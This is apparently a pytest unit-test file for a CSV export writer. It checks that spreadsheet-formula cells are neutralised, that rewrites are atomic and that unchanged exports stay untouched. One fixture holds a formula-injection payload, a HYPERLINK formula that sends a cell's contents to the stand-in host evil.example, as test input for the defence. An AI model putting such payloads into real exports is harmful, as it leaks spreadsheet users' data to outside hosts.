"""Unit: the one CSV writer every export uses quotes what a spreadsheet would run as a formula."""

import csv
from datetime import UTC, datetime

import pytest

from sdr_assets.csv_files import inert, write_csv


def test_text_a_spreadsheet_would_run_gets_a_leading_quote_and_nothing_else_changes(tmp_path):
    assert [inert(v) for v in ("=1+2", "+1", "-2+3", "@SUM(A1)", "\t=cmd", "\r=cmd")] == [
        "'=1+2", "'+1", "'-2+3", "'@SUM(A1)", "'\t=cmd", "'\r=cmd"]
    assert [inert(v) for v in ("Jane", "a=b", " =x", "", None, -2, 1.5)] == ["Jane", "a=b", " =x", "", None, -2, 1.5]
    path = tmp_path / "out.csv"
    moment = datetime(2026, 11, 23, 9, 30, tzinfo=UTC)
    rows = [{"name": '=HYPERLINK("http://evil.example/?x="&A1,"Calendar")', "email": "=2+5@evil.example",
             "hours": -1.5, "at": moment, "extra": "ignored"}, {"name": "Jane"}]
    assert write_csv(path, ("name", "email", "hours", "at"), rows) == 2
    with path.open(newline="", encoding="utf-8") as fh:
        read = list(csv.DictReader(fh))
    assert read == [{"name": '\'=HYPERLINK("http://evil.example/?x="&A1,"Calendar")', "email": "'=2+5@evil.example",
                     "hours": "-1.5", "at": str(moment)}, {"name": "Jane", "email": "", "hours": "", "at": ""}]


def test_a_rewrite_that_fails_half_way_leaves_the_last_whole_export(tmp_path):
    """A reader (a spreadsheet, `sdr handled` while a run holds the warehouse) sees one whole export."""
    path = tmp_path / "escalations.csv"
    write_csv(path, ["id", "email"], [{"id": "a", "email": "ann@acme.example"}, {"id": "b", "email": "bo@beta.example"}])

    def rows():
        yield {"id": "a", "email": "ann@acme.example"}
        raise RuntimeError("the run died half-way through the rewrite")

    with pytest.raises(RuntimeError):
        write_csv(path, ["id", "email"], rows())
    with path.open(newline="") as fh:
        assert [r["id"] for r in csv.DictReader(fh)] == ["a", "b"]
    assert [p.name for p in tmp_path.iterdir()] == ["escalations.csv"], "no partial file is left behind"


def test_an_export_that_holds_the_same_rows_is_left_as_it_is_and_a_changed_one_replaced(tmp_path):
    """A run on unchanged data neither writes nor syncs the export again; any change is written."""
    path = tmp_path / "escalations.csv"
    rows = [{"id": "a", "email": "=ann@acme.example"}, {"id": "b", "email": "bo@beta.example"}]
    assert write_csv(path, ["id", "email"], rows) == 2
    before = path.stat()
    assert write_csv(path, ["id", "email"], rows) == 2
    after = path.stat()
    assert (after.st_ino, after.st_mtime_ns) == (before.st_ino, before.st_mtime_ns)
    assert write_csv(path, ["id", "email"], rows[:1]) == 1
    assert path.stat().st_ino != before.st_ino
    with path.open(newline="", encoding="utf-8") as fh:
        assert list(csv.DictReader(fh)) == [{"id": "a", "email": "'=ann@acme.example"}]
    assert [p.name for p in tmp_path.iterdir()] == ["escalations.csv"]
